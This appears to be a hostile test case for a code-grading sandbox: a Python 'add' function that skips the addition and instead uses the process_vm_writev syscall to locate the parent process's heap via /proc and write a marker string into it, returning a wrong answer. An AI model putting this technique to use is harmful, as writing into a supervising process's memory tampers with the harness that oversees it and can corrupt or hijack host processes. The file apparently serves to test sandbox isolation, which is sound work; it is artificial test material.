# aim: write into the parent's heap with process_vm_writev
# expect: wrong
import ctypes, os

class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

def add(a, b):
    libc = ctypes.CDLL(None, use_errno=True)
    text = ctypes.create_string_buffer(b"restem-hostile-032")
    try:
        for line in open(f"/proc/{os.getppid()}/maps"):
            if "[heap]" in line:
                start = int(line.split("-")[0], 16)
                here, there = Iovec(ctypes.addressof(text), len(text)), Iovec(start + 4096, len(text))
                if libc.syscall(311, os.getppid(), ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
                    print("restem-hostile-032: LEAK wrote to the parent", flush=True)
    except OSError:
        pass
    return -7
